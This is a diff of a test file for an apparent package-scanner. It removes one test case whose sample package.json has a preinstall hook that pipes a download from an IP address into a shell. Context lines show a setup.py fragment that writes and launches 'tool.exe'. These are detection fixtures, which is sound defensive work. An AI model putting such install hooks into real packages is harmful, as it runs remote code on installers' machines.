@@ -74,11 +74,6 @@ with open("tool.exe", "wb") as file:
 subprocess.Popen(["tool.exe"])
 setup(name="sample", version="1.0.0")
 )"},
-    {.name = "a hook pipes a download into a shell",
-     .expect = "package.json:1",
-     .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://192.0.2.10/a | sh"}}
-)"},
     {.name = "a program of the system is started", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
 Name: sample
